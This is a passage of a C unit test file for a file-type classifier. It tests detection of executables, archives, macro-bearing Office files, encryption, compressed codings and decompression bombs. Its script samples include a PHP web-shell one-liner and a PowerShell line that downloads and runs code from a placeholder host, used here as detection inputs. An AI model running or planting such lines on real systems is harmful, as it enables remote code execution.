/* What a body is: made by hand, each kind beside a look-alike, in any slicing. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <brotli/encode.h>
#include <openssl/sha.h>
#include <zlib.h>

#include "proto/content/content.h"

enum { ROOM = 1 << 20 };

struct body {
	uint8_t at[ROOM];
	size_t len;
};

static void
nobody(void *to, const struct message *m)
{
	(void)to;
	(void)m;
}

static struct proto *
proto_with(uint64_t file_bytes, uint64_t total)
{
	const struct proto_limits limits = { .flow_bytes = 65536, .file_bytes = file_bytes,
	    .file_total_bytes = total };
	struct proto *p = proto_new(&limits, nobody, NULL);

	assert_non_null(p);
	return p;
}

static void
put(struct body *b, const void *bytes, size_t len)
{
	assert_true(len <= ROOM - b->len);
	memcpy(b->at + b->len, bytes, len);
	b->len += len;
}

static void
put_text(struct body *b, const char *text)
{
	put(b, text, strlen(text));
}

static void
put_zeros(struct body *b, size_t upto)
{
	assert_true(upto >= b->len && upto <= ROOM);
	memset(b->at + b->len, 0, upto - b->len);
	b->len = upto;
}

static void
put_le(struct body *b, uint64_t value, unsigned bytes)
{
	uint8_t c;

	for (; bytes > 0; bytes--, value >>= 8) {
		c = (uint8_t)value;
		put(b, &c, 1);
	}
}

/* In pieces of `slice` bytes. */
static struct file
look_with(struct proto *p, const void *bytes, size_t len, unsigned coding, size_t slice)
{
	struct content *c = content_open(p, coding, 0);
	struct span in = span_of(bytes, len), part;
	struct file f;

	memset(&f, 0, sizeof f);
	while (in.left > 0) {
		span_take(&in, slice < in.left ? slice : in.left, &part);
		content_bytes(c, part);
	}
	content_end(c, true, &f);
	return f;
}

/* The same, whatever the slices; nothing is held afterwards. */
static struct file
look_coded(const void *bytes, size_t len, unsigned coding)
{
	static const size_t slices[] = { ROOM, 1, 7, 127, 128, 1460, 2048, 4099 };
	struct proto *p = proto_with(ROOM, 0);
	struct file first, f;
	size_t i;

	first = look_with(p, bytes, len, coding, slices[0]);
	for (i = 1; i < sizeof slices / sizeof slices[0]; i++) {
		f = look_with(p, bytes, len, coding, slices[i]);
		assert_int_equal(f.kind, first.kind);
		assert_int_equal(f.inner, first.inner);
		assert_int_equal(f.encrypted, first.encrypted);
		assert_int_equal(f.macros, first.macros);
		assert_string_equal(f.sha256, first.sha256);
		assert_int_equal(f.bytes, len);
	}
	assert_int_equal(proto_counts(p)->held_bytes, 0);
	proto_free(p);
	return first;
}

static struct file
look(const void *bytes, size_t len)
{
	return look_coded(bytes, len, CONTENT_PLAIN);
}

static struct file
look_text(const char *text)
{
	return look(text, strlen(text));
}

static struct file
look_body(const struct body *b)
{
	return look(b->at, b->len);
}

/* ---- programs ---- */

static void
make_pe(struct body *b)
{
	b->len = 0;
	put_text(b, "MZ");
	put_zeros(b, 0x3c);
	put_le(b, 0x80, 4);
	put_zeros(b, 0x80);
	put(b, "PE\0\0\x64\x86", 6);
	put_zeros(b, 5000);
}

static void
test_programs(void **state)
{
	static struct body b;
	struct file f;

	(void)state;
	make_pe(&b);
	f = look_body(&b);
	assert_int_equal(f.kind, FILE_PE);
	assert_int_equal(f.inner, FILE_PE);
	assert_true(f.whole);
	b.at[0x80] = 'N';	/* a 16-bit program */
	assert_int_equal(look_body(&b).kind, FILE_UNKNOWN);
	assert_int_equal(look_text("MZ is how the names of two towns on number plates begin.").kind, FILE_TEXT);
	assert_int_equal(look("\177ELF\2\1\1\0\0\0", 10).kind, FILE_ELF);
	assert_int_equal(look("\177ELF\7\1\1\0\0\0", 10).kind, FILE_UNKNOWN);
	assert_int_equal(look("\xcf\xfa\xed\xfe\7\0\0\1", 8).kind, FILE_MACHO);
	assert_int_equal(look("\xca\xfe\xba\xbe\0\0\0\2\1\0\0\7\0\0\0\3", 16).kind, FILE_MACHO);
	/* a Java class of version 52, and of version 52 with a minor one */
	assert_int_equal(look("\xca\xfe\xba\xbe\0\0\0\x34\0\x1d\x0a\0", 12).kind, FILE_UNKNOWN);
	assert_int_equal(look("\xca\xfe\xba\xbe\0\3\0\x2d\0\x1d\x0a\0", 12).kind, FILE_UNKNOWN);
}

/* ---- archives ---- */

struct entry {
	const char *name;
	uint16_t flags, method;
	const char *data;
};

/* Local headers, then what begins the central directory. */
static void
make_zip(struct body *b, const struct entry *e, size_t count)
{
	size_t len;

	b->len = 0;
	for (; count > 0; count--, e++) {
		len = strlen(e->data);
		put(b, "PK\3\4", 4);
		put_le(b, 20, 2);
		put_le(b, e->flags, 2);
		put_le(b, e->method, 2);
		put_le(b, 0, 8);
		put_le(b, (e->flags & 8) != 0 ? 0 : len, 4);
		put_le(b, (e->flags & 8) != 0 ? 0 : len, 4);
		put_le(b, strlen(e->name), 2);
		put_le(b, 5, 2);	/* extra field */
		put_text(b, e->name);
		put(b, "extra", 5);
		put_text(b, e->data);
		if ((e->flags & 8) != 0)
			put(b, "PK\7\10............", 16);
	}
	put(b, "PK\1\2", 4);
	put_zeros(b, b->len + 60);
}

static void
test_zip(void **state)
{
	static const struct entry plain[] = { { "a.txt", 0, 0, "one PK\3\4 two" }, { "word/b.txt", 0, 8, "xx" } };
	static const struct entry secret[] = { { "a.txt", 0, 0, "one" }, { "b.exe", 1, 8, "xx" } };
	static const struct entry aes[] = { { "b.exe", 0, 99, "xx" } };
	static const struct entry streamed[] = { { "a.txt", 8, 8, "P PK PK\3 one" }, { "b.exe", 9, 8, "xx" } };
	static struct body b;
	struct file f;

	(void)state;
	make_zip(&b, plain, 2);
	f = look_body(&b);
	assert_int_equal(f.kind, FILE_ZIP);	/* word/ alone makes no document */
	assert_false(f.encrypted || f.macros);
	make_zip(&b, secret, 2);
	assert_true(look_body(&b).encrypted);
	make_zip(&b, aes, 1);
	assert_true(look_body(&b).encrypted);
	make_zip(&b, streamed, 2);
	assert_true(look_body(&b).encrypted);
	make_zip(&b, streamed, 1);
	assert_false(look_body(&b).encrypted);
	assert_int_equal(look_text("PK is short for player kill").kind, FILE_TEXT);
}

static void
test_ooxml(void **state)
{
	static const struct entry without[] = { { "[Content_Types].xml", 8, 8, "x" }, { "_rels/.rels", 8, 8, "x" },
	    { "word/document.xml", 8, 8, "about word/vbaProject.bin" } };
	static const struct entry with[] = { { "[Content_Types].xml", 8, 8, "x" }, { "_rels/.rels", 8, 8, "x" },
	    { "word/document.xml", 8, 8, "x" }, { "word/vbaProject.bin", 8, 8, "x" } };
	static const struct entry sheets[] = { { "_rels/.rels", 0, 8, "x" }, { "xl/workbook.xml", 0, 8, "x" },
	    { "xl/macrosheets/sheet1.xml", 0, 8, "x" } };
	static const struct entry package[] = { { "[Content_Types].xml", 0, 8, "x" }, { "lib/a.dll", 0, 8, "x" } };
	static struct body b;
	struct file f;

	(void)state;
	make_zip(&b, without, 3);
	f = look_body(&b);
	assert_int_equal(f.kind, FILE_OOXML);
	assert_false(f.macros);
	make_zip(&b, with, 4);
	f = look_body(&b);
	assert_int_equal(f.kind, FILE_OOXML);
	assert_true(f.macros);
	make_zip(&b, sheets, 3);
	assert_true(look_body(&b).macros);
	make_zip(&b, package, 2);
	assert_int_equal(look_body(&b).kind, FILE_ZIP);
}

static void
put_ole_entry(struct body *b, const char *name, unsigned type)
{
	size_t begin = b->len, i;

	for (i = 0; i <= strlen(name); i++)
		put_le(b, (uint8_t)name[i], 2);
	put_zeros(b, begin + 64);
	put_le(b, 2 * (strlen(name) + 1), 2);
	put_le(b, type, 1);
	put_zeros(b, begin + 128);
}

static void
make_ole(struct body *b, const char *name, unsigned type)
{
	b->len = 0;
	put(b, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
	put_zeros(b, 512 * 9);
	put_ole_entry(b, "Root Entry", 5);
	put_ole_entry(b, "WordDocument", 2);
	put_ole_entry(b, name, type);
	put_zeros(b, 512 * 12);
}

static void
test_ole(void **state)
{
	static struct body b;
	struct file f;

	(void)state;
	make_ole(&b, "1Table", 2);
	f = look_body(&b);
	assert_int_equal(f.kind, FILE_OLE);
	assert_false(f.macros || f.encrypted);
	make_ole(&b, "VBA", 1);
	assert_true(look_body(&b).macros);
	make_ole(&b, "VBA", 2);		/* a stream that happens to have the name */
	assert_false(look_body(&b).macros);
	make_ole(&b, "_VBA_PROJECT", 2);
	assert_true(look_body(&b).macros);
	make_ole(&b, "EncryptedPackage", 2);
	f = look_body(&b);
	assert_true(f.encrypted && !f.macros);
}

static void
make_rar4(struct body *b, unsigned main_flags, unsigned file_flags)
{
	b->len = 0;
	put(b, "Rar!\x1a\7\0\0\0\x73", 10);
	put_le(b, main_flags, 2);
	put_le(b, 13, 2);
	put_zeros(b, b->len + 6);
	put(b, "\0\0\x74", 3);
	put_le(b, file_flags, 2);
	put_le(b, 40, 2);
	put_zeros(b, b->len + 60);
}

/* `extra`: the type of the file header's only record of extra area. */
static void
make_rar5(struct body *b, unsigned first_type, unsigned extra)
{
	const uint8_t main_block[] = { 0, 0, 0, 0, 3, (uint8_t)first_type, 0, 0 };
	const uint8_t file_block[] = { 0, 0, 0, 0, 8, 2, 3, 3, 0, 0, 2, (uint8_t)extra, 0 };

	b->len = 0;
	put(b, "Rar!\x1a\7\1\0", 8);
	put(b, main_block, sizeof main_block);
	put(b, file_block, sizeof file_block);
	put_zeros(b, b->len + 40);
}

static void
make_seven_zip(struct body *b, const char *method, size_t method_bytes)
{
	b->len = 0;
	put(b, "7z\xbc\xaf\x27\x1c\0\4\0\0\0\0", 12);
	put_le(b, 3000, 8);
	put_le(b, 20, 8);
	put_zeros(b, 32);
	put(b, "\x06\xf1\x07\x01", 4);	/* in the packed data it means nothing */
	put_zeros(b, 3032);
	put(b, "\x17\6\6", 3);
	put(b, method, method_bytes);
	put_zeros(b, 3052);
}

static void
test_other_archives(void **state)
{
	static struct body b;

	(void)state;
	make_rar4(&b, 0, 0);
	assert_int_equal(look_body(&b).kind, FILE_RAR);
	assert_false(look_body(&b).encrypted);
	make_rar4(&b, 0x80, 0);
	assert_true(look_body(&b).encrypted);
	make_rar4(&b, 0, 4);
	assert_true(look_body(&b).encrypted);
	make_rar5(&b, 1, 3);
	assert_int_equal(look_body(&b).kind, FILE_RAR);
	assert_false(look_body(&b).encrypted);
	make_rar5(&b, 4, 3);
	assert_true(look_body(&b).encrypted);
	make_rar5(&b, 1, 1);
	assert_true(look_body(&b).encrypted);
	make_seven_zip(&b, "\3\1\1", 3);
	assert_int_equal(look_body(&b).kind, FILE_SEVEN_ZIP);
	assert_false(look_body(&b).encrypted);
	make_seven_zip(&b, "\x06\xf1\x07\x01", 4);
	assert_true(look_body(&b).encrypted);
	assert_int_equal(look("MSCF\0\0\0\0\1\2", 10).kind, FILE_CAB);
	assert_int_equal(look_text("MSCF is no cabinet here").kind, FILE_TEXT);
}

static void
test_documents_and_images(void **state)
{
	static struct body b;
	struct file f;

	(void)state;
	b.len = 0;
	put_text(&b, "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
	put_zeros(&b, 4000);
	put_text(&b, "trailer << /Enc /Encryp 7 /Root 1 0 R >>");
	f = look_body(&b);
	assert_int_equal(f.kind, FILE_PDF);
	assert_false(f.encrypted);
	put_text(&b, "trailer << /Encrypt 7 0 R >>");
	assert_true(look_body(&b).encrypted);
	b.len = 0;
	put_zeros(&b, 32768);
	put_text(&b, "\1CD001\1");
	put_zeros(&b, 40000);
	assert_int_equal(look_body(&b).kind, FILE_ISO);
	b.at[32769 + 4] = '2';
	assert_int_equal(look_body(&b).kind, FILE_UNKNOWN);
	assert_int_equal(look("L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\xab", 21).kind, FILE_LNK);
	assert_int_equal(look("L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0\x47\xab", 21).kind, FILE_UNKNOWN);
	assert_int_equal(look("\x89PNG\r\n\x1a\n....", 12).kind, FILE_IMAGE);
	assert_int_equal(look("RIFF1234WEBPVP8 ", 16).kind, FILE_IMAGE);
	assert_int_equal(look("RIFF1234WAVEfmt ", 16).kind, FILE_TEXT);
	assert_int_equal(look_text("<?xml version='1.0'?><!-- x --><svg width='1'/>").kind, FILE_IMAGE);
	assert_int_equal(look_text("<?xml version='1.0'?><note/>").kind, FILE_TEXT);
	assert_int_equal(look_text("\n <!-- hello --> <!DOCTYPE html><title>x</title>").kind, FILE_HTML);
	assert_int_equal(look("\1\2\3\4", 4).kind, FILE_UNKNOWN);
	assert_int_equal(look("", 0).kind, FILE_UNKNOWN);
}

static void
test_scripts(void **state)
{
	static const char *const scripts[] = {
		"#!/bin/sh\necho hello\n",
		"@echo off\r\ncopy a b\r\n",
		"<html><head><HTA:APPLICATION id='x'></head></html>",
		"<?php system($_GET['c']);",
		"$c = New-Object System.Net.WebClient; IEX($c.DownloadString('http://a.example/'))",
		"On Error Resume Next\r\nDim a\r\nSet a = CreateObject(\"WScript.Shell\")\r\n",
		"var a = new ActiveXObject('x'); function f() { return a; } f();",
		"(function(){'use strict';var x=document.createElement('b');window.y=x})();",
		"rem x\r\nsetlocal\r\nset /p a=\r\ngoto end\r\n",
	};
	static const char *const texts[] = {
		"Dear reader, a variable is declared with var in JavaScript, and a function returns a value.",
		"To install it, run New-Object once in your PowerShell window.",
		"{\"function \": \"var \", \"document.\": \"window.\", \"return \": 1}",
		"let me know, and return to me the var and const files: document.txt, window.txt, function of it",
		"body { color: red } /* function( */",
		"on error, resume the next step; dim the light",
	};
	static const char wide[] = "\xff\xfeO\0n\0 \0E\0r\0r\0o\0r\0 \0R\0e\0s\0u\0m\0e\0 \0N\0e\0x\0t\0\n\0"
	    "C\0r\0e\0a\0t\0e\0O\0b\0j\0e\0c\0t\0(\0";
	size_t i;

	(void)state;
	for (i = 0; i < sizeof scripts / sizeof scripts[0]; i++)
		if (look_text(scripts[i]).kind != FILE_SCRIPT)
			fail_msg("no script: %s", scripts[i]);
	for (i = 0; i < sizeof texts / sizeof texts[0]; i++)
		if (look_text(texts[i]).kind != FILE_TEXT)
			fail_msg("no text: %s", texts[i]);
	assert_int_equal(look(wide, sizeof wide - 1).kind, FILE_SCRIPT);
}

/* ---- codings, hashes, limits ---- */

/* bits: zlib's windowBits; returns the coded length. */
static size_t
code(const struct body *b, int bits, uint8_t *to, size_t room)
{
	z_stream z;
	size_t len;

	memset(&z, 0, sizeof z);
	assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, bits, 8, Z_DEFAULT_STRATEGY), Z_OK);
	z.next_in = (Bytef *)(uintptr_t)b->at;
	z.avail_in = (uInt)b->len;
	z.next_out = to;
	z.avail_out = (uInt)room;
	assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
	len = room - z.avail_out;
	deflateEnd(&z);
	return len;
}

static void
hex_of(const void *bytes, size_t len, char hex[65])
{
	uint8_t raw[SHA256_DIGEST_LENGTH];
	size_t i;

	SHA256(bytes, len, raw);
	for (i = 0; i < sizeof raw; i++)
		snprintf(hex + 2 * i, 3, "%02x", raw[i]);
}

static void
test_codings(void **state)
{
	static const struct { int bits; enum content_coding coding; } codings[] = {
		{ 31, CONTENT_GZIP }, { 15, CONTENT_DEFLATE }, { -15, CONTENT_DEFLATE } };
	static struct body b;
	static uint8_t coded[ROOM];
	struct file f;
	char hex[65];
	size_t i, len;

	(void)state;
	make_pe(&b);
	hex_of(b.at, b.len, hex);
	assert_string_equal(look_body(&b).sha256, hex);
	for (i = 0; i < 3; i++) {
		len = code(&b, codings[i].bits, coded, sizeof coded);
		f = look_coded(coded, len, codings[i].coding);
		assert_int_equal(f.kind, FILE_PE);
		assert_string_equal(f.sha256, hex);
		f = look_coded(coded, len - 1, codings[i].coding);	/* its end is missing */
		assert_int_equal(f.kind, FILE_PE);
		if (codings[i].bits != -15)
			assert_string_equal(f.sha256, "");
	}
	len = code(&b, 31, coded, sizeof coded);
	f = look(coded, len);			/* a gzip file, no coding */
	assert_int_equal(f.kind, FILE_GZIP);
	assert_int_equal(f.inner, FILE_PE);
	hex_of(coded, len, hex);
	assert_string_equal(f.sha256, hex);
	memcpy(coded + len, coded, len);	/* two members */
	put(&b, b.at, b.len);
	hex_of(b.at, b.len, hex);
	assert_string_equal(look_coded(coded, 2 * len, CONTENT_GZIP).sha256, hex);
	assert_int_equal(look_coded("this is no gzip at all", 22, CONTENT_GZIP).kind, FILE_UNKNOWN);
	f = look_coded("some zstd", 9, CONTENT_OTHER);
	assert_int_equal(f.kind, FILE_UNKNOWN);
	assert_string_equal(f.sha256, "");
	b.len = 0;
	while (b.len < 9000)
		put_text(&b, "Nothing but prose. ");
	f = look_coded(coded, code(&b, 31, coded, sizeof coded), CONTENT_GZIP);
	assert_int_equal(f.kind, FILE_TEXT);
	assert_string_equal(f.sha256, "");	/* left once it was known */
	assert_string_not_equal(look_body(&b).sha256, "");
}

/* Returns the coded length. */
static size_t
code_brotli(const struct body *b, int window_bits, uint8_t *to, size_t room)
{
	size_t len = room;

	assert_true(BrotliEncoderCompress(5, window_bits, BROTLI_MODE_GENERIC, b->len, b->at, &len, to));
	return len;
}

static void
recode(struct body *b, unsigned coding)
{
	static uint8_t coded[ROOM];
	size_t len = coding == CONTENT_BROTLI ? code_brotli(b, 22, coded, sizeof coded) :
	    code(b, coding == CONTENT_GZIP ? 31 : 15, coded, sizeof coded);

	b->len = 0;
	put(b, coded, len);
}

static void
test_brotli(void **state)
{
	static struct body b;
	static uint8_t coded[ROOM];
	struct file f;
	char hex[65];
	size_t len;

	(void)state;
	make_pe(&b);
	hex_of(b.at, b.len, hex);
	len = code_brotli(&b, 22, coded, sizeof coded);
	f = look_coded(coded, len, CONTENT_BROTLI);
	assert_int_equal(f.kind, FILE_PE);
	assert_string_equal(f.sha256, hex);
	f = look_coded(coded, len - 1, CONTENT_BROTLI);		/* its end is missing */
	assert_int_equal(f.kind, FILE_PE);
	assert_string_equal(f.sha256, "");
	coded[len] = 'x';					/* and what is not of it */
	f = look_coded(coded, len + 1, CONTENT_BROTLI);
	assert_int_equal(f.kind, FILE_PE);
	assert_string_equal(f.sha256, "");
	f = look_coded("\xff\xff\xff this is no brotli", 22, CONTENT_BROTLI);
	assert_int_equal(f.kind, FILE_UNKNOWN);
	assert_string_equal(f.sha256, "");
}

/* Nothing of these is had before it is asked for, and a window has a ceiling. */
static void
test_brotli_memory(void **state)
{
	/* RFC 7932: a window of 2^24, then an uncompressed block of 16 MiB. */
	static const uint8_t large[] = { 0xcf, 0xff, 0xff, 0xff, 'p', 'r', 'o', 's', 'e' };
	static struct body b;
	static uint8_t coded[ROOM];
	struct proto *p = proto_with(ROOM, CONTENT_COST + 4096);
	struct file f;
	size_t len;

	(void)state;
	make_pe(&b);
	len = code_brotli(&b, 22, coded, sizeof coded);
	f = look_with(p, coded, len, CONTENT_BROTLI, 1000);	/* no room for what undoes it */
	assert_int_equal(f.kind, FILE_UNKNOWN);
	assert_true(proto_counts(p)->files_refused > 0);
	assert_int_equal(proto_counts(p)->held_bytes, 0);
	proto_free(p);
	p = proto_with(ROOM, 0);
	f = look_with(p, large, sizeof large, CONTENT_BROTLI, 1);
	assert_int_equal(f.kind, FILE_UNKNOWN);
	assert_int_equal(proto_counts(p)->files_refused, 0);
	assert_int_equal(proto_counts(p)->held_bytes, 0);
	proto_free(p);
}

static void
test_codings_in_a_row(void **state)
{
	static const unsigned rows[][CODINGS_MAX + 1] = {
		{ CONTENT_GZIP, CONTENT_GZIP }, { CONTENT_DEFLATE, CONTENT_GZIP }, { CONTENT_GZIP, CONTENT_BROTLI },
		{ CONTENT_BROTLI, CONTENT_GZIP, CONTENT_DEFLATE }, { CONTENT_GZIP, CONTENT_GZIP, CONTENT_GZIP },
	};
	static struct body b;
	unsigned codings;
	struct file f;
	char hex[65];
	size_t i, k;

	(void)state;
	for (i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		make_pe(&b);
		hex_of(b.at, b.len, hex);
		for (k = 0, codings = 0; rows[i][k] != CONTENT_PLAIN; k++) {
			recode(&b, rows[i][k]);
			codings = codings << CODING_BITS | rows[i][k];
		}
		f = look_coded(b.at, b.len, codings);
		assert_int_equal(f.kind, FILE_PE);
		assert_string_equal(f.sha256, hex);
		f = look_coded(b.at, b.len / 2, codings);
		assert_string_equal(f.sha256, "");
	}
}

static void
test_too_many_codings(void **state)
{
	struct proto *p = proto_with(ROOM, 0);
	struct file f;

	(void)state;
	f = look_with(p, "anything", 8, content_coding_of(span_text("gzip, gzip, gzip, gzip")), 8);
	assert_int_equal(f.kind, FILE_UNKNOWN);
	assert_string_equal(f.sha256, "");
	assert_int_equal(proto_counts(p)->files_too_deep, 1);
	f = look_with(p, "anything", 8, CONTENT_OTHER, 8);
	assert_int_equal(proto_counts(p)->files_too_deep, 1);
	proto_free(p);
}

/* Inside a coding a script matters, but not one that a web page is known to have. */
static void
test_web_scripts(void **state)
{
	static struct body b;
	static uint8_t coded[ROOM];
	struct proto *p = proto_with(ROOM, 0);
	struct content *c;
	struct file f;
	int web;

	(void)state;
	b.len = 0;
	while (b.len < 9000)
		put_text(&b, "(function(){'use strict';window.x=document.y})();\n");
	for (web = 0; web < 2; web++) {
		c = content_open(p, CONTENT_GZIP, 0);
		if (web)
			content_is_web(c, true);
		content_bytes(c, span_of(coded, code(&b, 31, coded, sizeof coded)));
		content_end(c, true, &f);
		assert_int_equal(f.kind, FILE_SCRIPT);
		assert_int_equal(strlen(f.sha256), web ? 0 : 64);
	}
	proto_free(p);
}

/* What pages are made of has no hash where it is declared so, however short or long. */
static void
test_ordinary_parts(void **state)
{
	static const struct { const char *text; enum file_kind kind; bool ordinary; } rows[] = {
		{ "<!DOCTYPE html><p>hello ", FILE_HTML, true }, { "{\"hello\": \"world\"} ", FILE_TEXT, true },
		{ "GIF89a\1", FILE_IMAGE, true }, { "#!/bin/sh\n", FILE_SCRIPT, false },
		{ "\177ELF\2\1\1", FILE_ELF, false }, { "\1\2\3", FILE_UNKNOWN, false },
	};
	struct proto *p = proto_with(ROOM, 0);
	static struct body b;
	struct content *c;
	struct file f;
	size_t i, lengths;
	int web;

	(void)state;
	for (i = 0; i < 2 * 2 * (sizeof rows / sizeof rows[0]); i++) {
		lengths = i / 2 % 2;
		web = (int)(i % 2);
		b.len = 0;
		do
			put_text(&b, rows[i / 4].text);
		while (lengths != 0 && b.len < 5000);
		c = content_open(p, CONTENT_PLAIN, 0);
		if (web)
			content_is_web(c, false);
		content_bytes(c, span_of(b.at, b.len));
		content_end(c, true, &f);
		assert_int_equal(f.kind, rows[i / 4].kind);
		assert_int_equal(f.ordinary, web && rows[i / 4].ordinary);
		assert_int_equal(strlen(f.sha256), f.ordinary ? 0 : 64);
	}
	proto_free(p);
}

/* One that is used again remembers nothing, whatever it was left in the middle of. */
static void
test_codings_in_turn(void **state)
{
	static struct body b;
	static uint8_t coded[2][ROOM];
	struct proto *p = proto_with(ROOM, 0);
	size_t len[2], turn;
	struct content *c;
	struct file f;

	(void)state;
	make_pe(&b);
	len[0] = code(&b, 31, coded[0], sizeof coded[0]);
	len[1] = code(&b, -15, coded[1], sizeof coded[1]);
	for (turn = 0; turn < 20; turn++) {
		c = content_open(p, turn % 3 == 0 ? CONTENT_DEFLATE : CONTENT_GZIP, 0);
		content_bytes(c, span_of(coded[turn % 3 == 0], len[turn % 3 == 0] / (1 + turn % 5)));
		content_close(c);
		f = look_with(p, coded[turn % 2], len[turn % 2], turn % 2 ? CONTENT_DEFLATE : CONTENT_GZIP, 1000);
		assert_int_equal(f.kind, FILE_PE);
		assert_int_equal(strlen(f.sha256), 64);
	}
	assert_int_equal(proto_counts(p)->held_bytes, 0);
	proto_free(p);
}

static void
test_a_bomb_stops(void **state)
{
	static struct body b;
	static uint8_t coded[ROOM];
	struct proto *p = proto_with(65536, 0);
	struct file f;
	size_t len;

	(void)state;
	b.len = 0;
	put_text(&b, "\177ELF\2\1\1");
	put_zeros(&b, ROOM);
	len = code(&b, 31, coded, sizeof coded);
	f = look_with(p, coded, len, CONTENT_GZIP, 100);
	assert_int_equal(f.kind, FILE_ELF);
	assert_int_equal(f.bytes, len);
	assert_true(f.whole);
	assert_string_equal(f.sha256, "");
	assert_int_equal(proto_counts(p)->files_too_large, 1);
	assert_int_equal(proto_counts(p)->held_bytes, 0);
	proto_free(p);
}

/* Much between two codings, of which nothing comes out: blocks of no length (RFC 1951 section 3.2.4). */
static void
test_a_bomb_between_codings_stops(void **state)
{
	static const uint8_t head[] = { 0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3 }, nothing[] = { 0, 0, 0, 0xff, 0xff };
	static struct body b;
	static uint8_t coded[ROOM];
	struct proto *p = proto_with(65536, 0);
	struct content *c;
	struct file f;
	size_t len;

	(void)state;
	b.len = 0;
	put(&b, head, sizeof head);
	while (b.len < 100000)
		put(&b, nothing, sizeof nothing);
	len = code(&b, 31, coded, sizeof coded);
	assert_true(len < 2000);
	c = content_open(p, CONTENT_GZIP << CODING_BITS | CONTENT_GZIP, 0);
	content_bytes(c, span_of(coded, len));
	assert_false(content_wants(c));
	content_end(c, true, &f);
	assert_int_equal(f.kind, FILE_UNKNOWN);
	assert_int_equal(proto_counts(p)->files_too_large, 1);
	assert_int_equal(proto_counts(p)->held_bytes, 0);
	proto_free(p);
}

static void
test_limits(void **state)
{
	static struct body b;
	struct proto *p = proto_with(5000, 0);
	struct content *c;
	struct file f;

	(void)state;
	make_pe(&b);
	assert_string_not_equal(look_with(p, b.at, 5000, CONTENT_PLAIN, 100).sha256, "");
	assert_int_equal(proto_counts(p)->files_too_large, 0);
	put_text(&b, "x");
	f = look_with(p, b.at, 5001, CONTENT_PLAIN, 100);
	assert_string_equal(f.sha256, "");
	assert_int_equal(f.kind, FILE_PE);
	assert_int_equal(f.bytes, 5001);
	assert_int_equal(proto_counts(p)->files_too_large, 1);

	c = content_open(p, CONTENT_PLAIN, 5001);	/* announced: not hashed from the start */
	content_bytes(c, span_of(b.at, 2500));
	assert_false(content_wants(c));
	content_pass(c, 2501);
	content_end(c, true, &f);
	assert_int_equal(f.kind, FILE_PE);
	assert_int_equal(f.bytes, 5001);
	assert_true(f.whole);
	proto_free(p);

	p = proto_with(0, 0);
	assert_null(content_open(p, CONTENT_PLAIN, 0));
	content_end(NULL, true, &f);
	assert_int_equal(f.kind, FILE_UNKNOWN);
	proto_free(p);

	p = proto_with(5000, CONTENT_COST);
	c = content_open(p, CONTENT_PLAIN, 0);
	assert_non_null(c);
	assert_null(content_open(p, CONTENT_PLAIN, 0));
	assert_int_equal(proto_counts(p)->files_refused, 1);
	content_close(c);
	c = content_open(p, CONTENT_GZIP, 0);		/* no room for what undoes it */
	assert_non_null(c);
	assert_false(content_wants(c));
	assert_int_equal(proto_counts(p)->files_refused, 2);
	content_close(c);
	assert_int_equal(proto_counts(p)->held_bytes, 0);
	proto_free(p);
}

/* A hole anywhere: the kind as far as it can be told, never a hash. */
static void
test_holes(void **state)
{
	static const struct entry secret[] = { { "a.txt", 0, 0, "0123456789012345678901234567890" }, { "b.exe", 1, 8, "xx" } };
	static struct body b;
	struct proto *p = proto_with(ROOM, 0);
	struct content *c;
	struct file f;
	size_t at;

	(void)state;
	make_zip(&b, secret, 2);
	for (at = 0; at + 10 < b.len; at++) {
		c = content_open(p, CONTENT_PLAIN, b.len);
		content_bytes(c, span_of(b.at, at));
		content_lost(c, 10);
		content_bytes(c, span_of(b.at + at + 10, b.len - at - 10));
		content_end(c, true, &f);
		assert_int_equal(f.bytes, b.len);
		assert_false(f.whole);
		assert_string_equal(f.sha256, "");
		if (at >= 4)
			assert_int_equal(f.kind, FILE_ZIP);
		if (at >= 40 && at < 56)	/* inside the first entry's data */
			assert_true(f.encrypted);
	}
	proto_free(p);
}

/* ---- the mismatch rule ---- */

static void
test_mismatch(void **state)
{
	static const struct {
		enum file_kind kind;
		bool macros;
		const char *type, *name;
		bool mismatched;
	} cases[] = {
		{ FILE_PE, false, "image/jpeg", "a.jpg", true },
		{ FILE_PE, false, "image/jpeg", "setup.exe", true },
		{ FILE_PE, false, "IMAGE/PNG; x=y", NULL, true },
		{ FILE_PE, false, "application/octet-stream", "setup.exe", false },
		{ FILE_PE, false, "application/octet-stream", "picture.jpg", true },
		{ FILE_PE, false, "application/octet-stream", "notes.txt", true },
		{ FILE_PE, false, "application/octet-stream", "invoice.pdf.exe", false },
		{ FILE_PE, false, "application/octet-stream", "update", false },
		{ FILE_PE, false, NULL, "update.jpg", true },
		{ FILE_PE, false, NULL, NULL, false },
		{ FILE_PE, false, "text/plain", "setup.exe", false },	/* old servers' default */
		{ FILE_PE, false, "text/plain", "a", true },
		{ FILE_PE, false, "text/html; charset=utf-8", "index.php?x", true },
		{ FILE_PE, false, "application/x-msdownload", "a.txt", false },
		{ FILE_ELF, false, "application/pdf", "a", true },
		{ FILE_LNK, false, "text/plain", "a.lnk", false },
		{ FILE_ISO, false, "video/mp4", "a.iso", true },
		{ FILE_SCRIPT, false, "text/plain", "a.txt", false },
		{ FILE_SCRIPT, false, "application/javascript", "a.js", false },
		{ FILE_SCRIPT, false, "image/gif", "a.gif", true },
		{ FILE_SCRIPT, false, NULL, "a.jpg", true },
		{ FILE_OOXML, true, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "a.docx", true },
		{ FILE_OOXML, true, NULL, "a.docm", false },
		{ FILE_OOXML, true, "application/octet-stream", "a.docx", true },
		{ FILE_OOXML, false, "application/octet-stream", "a.jpg", false },
		{ FILE_OLE, true, "application/msword", "a.doc", false },
		{ FILE_OLE, true, "image/png", "a.doc", true },
		{ FILE_ZIP, false, "image/png", "a.png", false },
		{ FILE_TEXT, false, "image/png", "a.png", false },
	};
	struct file f;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
